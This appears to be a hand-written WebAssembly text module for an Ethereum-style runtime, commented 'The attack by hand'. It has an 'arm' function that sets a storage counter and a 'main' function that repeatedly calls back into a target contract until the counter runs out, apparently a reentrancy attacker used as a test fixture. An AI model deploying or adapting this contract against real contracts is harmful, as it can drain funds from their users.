;; The attack by hand.
(module
  (type (;0;) (func (param i32 i32)))
  (type (;1;) (func (param i32) (result i32)))
  (type (;2;) (func (param i64 i32 i32 i32 i32) (result i32)))
  (type (;3;) (func))
  (import "storage" "store_i32" (func (;0;) (type 0)))
  (import "storage" "load_i32" (func (;1;) (type 1)))
  (import "ethereum" "call" (func (;2;) (type 2)))
  (import "ethereum" "finish" (func (;3;) (type 0)))
  (import "ethereum" "revert" (func (;4;) (type 0)))
  (func (;5;) (type 3)
    i32.const 0
    i32.const 2
    call 0)
  (func (;6;) (type 3)
    (local i32 i32)
    global.get 0
    i32.const 48
    i32.sub
    local.tee 0
    global.set 0
    block  ;; label = @1
      block  ;; label = @2
        block  ;; label = @3
          i32.const 0
          call 1
          local.tee 1
          i32.const 1
          i32.lt_s
          br_if 0 (;@3;)
          i32.const 0
          local.get 1
          i32.const -1
          i32.add
          call 0
          i32.const 0
          i32.const 30
          i32.store8 offset=65603
          i32.const 0
          i32.const 9
          i32.store8 offset=65595
          i32.const 0
          i32.const 1
          i32.store8 offset=65575
          i32.const 0
          i32.const -1991519295
          i32.store offset=65552
          local.get 0
          i32.const 0
          i32.store offset=23 align=1
          local.get 0
          i64.const 0
          i64.store offset=16
          local.get 0
          i64.const 0
          i64.store offset=8
          local.get 0
          i32.const 8
          i32.add
          i32.const -19
          i32.ge_u
          br_if 1 (;@2;)
          local.get 0
          i32.const 32
          i32.store8 offset=27
          local.get 0
          i64.const 0
          i64.store offset=40
          local.get 0
          i64.const 0
          i64.store offset=32
          i64.const 9223372036854775807
          local.get 0
          i32.const 8
          i32.add
          local.get 0
          i32.const 32
          i32.add
          i32.const 65552
          i32.const 52
          call 2
          br_if 2 (;@1;)
        end
        i32.const 65536
        i32.const 4
        call 3
      end
      unreachable
    end
    i32.const 0
    i32.const 0
    call 4
    unreachable)
  (table (;0;) 1 1 funcref)
  (memory (;0;) 2)
  (global (;0;) (mut i32) (i32.const 65536))
  (export "memory" (memory 0))
  (export "arm" (func 5))
  (export "main" (func 6))
  (data (;0;) (i32.const 65536) "\88\a7\ca\5c"))
